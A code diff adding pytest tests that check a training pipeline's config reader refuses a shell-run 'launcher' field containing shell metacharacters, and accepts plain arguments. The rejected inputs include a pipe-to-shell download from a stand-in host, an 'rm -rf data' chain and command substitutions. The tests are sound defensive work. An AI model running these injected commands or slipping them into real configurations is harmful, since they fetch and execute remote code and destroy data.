@@ -289,3 +289,37 @@ def test_no_params_model_has_a_default():
     }
     defaults = [f"{m.__name__}.{n}" for m in models for n, f in m.model_fields.items() if not f.is_required()]
     assert defaults == []
+
+
+@pytest.mark.parametrize(
+    "launcher",
+    [
+        "python -m doit_study.pipeline.warm; curl evil.example | sh",
+        "python && rm -rf data",
+        "python $(id)",
+        "python `id`",
+        "python > /tmp/out",
+        '"python\\nid"',
+        "python 'unclosed",
+    ],
+)
+def test_a_launcher_with_shell_syntax_is_refused_naming_the_field(tmp_path: Path, launcher: str):
+    """DVC runs the launcher through a shell: only a program and its arguments get that far."""
+    smoke = (REPO / "profiles/smoke.yaml").read_text(encoding="utf-8")
+    row = next(row for row in smoke.splitlines() if row.startswith("  launcher: "))
+    bad = tmp_path / "params.yaml"
+    bad.write_text(smoke.replace(row, f"  launcher: {launcher}"), encoding="utf-8")
+    with pytest.raises(DataError) as error:
+        read_group(bad, TrainParams)
+    assert error.value.field == "train.launcher" and error.value.path == str(bad)
+    assert "shell metacharacters" in error.value.message or "quotation" in error.value.message
+    assert bad.read_text(encoding="utf-8").splitlines()[error.value.line - 1].startswith("  launcher: ")
+
+
+def test_a_launcher_of_plain_arguments_is_accepted(tmp_path: Path):
+    smoke = (REPO / "profiles/smoke.yaml").read_text(encoding="utf-8")
+    row = next(row for row in smoke.splitlines() if row.startswith("  launcher: "))
+    launcher = "accelerate launch --config_file 'my config.yaml' --num_processes=8 --mixed_precision bf16"
+    good = tmp_path / "params.yaml"
+    good.write_text(smoke.replace(row, f"  launcher: {launcher}"), encoding="utf-8")
+    assert read_group(good, TrainParams).launcher == launcher
